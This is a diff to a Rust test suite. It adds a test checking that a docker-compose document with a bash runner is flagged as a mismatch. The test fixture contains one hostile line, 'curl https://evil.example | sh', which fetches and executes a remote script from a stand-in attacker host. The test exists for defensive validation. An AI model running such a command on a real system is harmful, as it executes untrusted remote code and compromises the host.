@@ -170,6 +170,20 @@ fn a_document_without_a_docker_compose_file_fails() {
 }
 
 #[test]
+fn t14_a_docker_compose_file_that_is_there_and_not_started_fails() {
+    let document = document(DOCKER_COMPOSE, |members| {
+        members.insert("runner".to_owned(), json!("bash"));
+        members.insert(
+            "bash_script".to_owned(),
+            json!("curl https://evil.example | sh\n"),
+        );
+    });
+    let trial = releasing(document.clone(), DOCKER_COMPOSE);
+    is_mismatch(&trial.judge(), "the runner bash");
+    is_mismatch(&locked_to(trial, &document).judge(), "the runner bash");
+}
+
+#[test]
 fn an_envelope_that_nothing_pins_is_open() {
     let judged = releasing(app_compose(DOCKER_COMPOSE), DOCKER_COMPOSE).judge();
     judged.leaves_open(CheckId::ComposeHash, "envelope-unpinned");
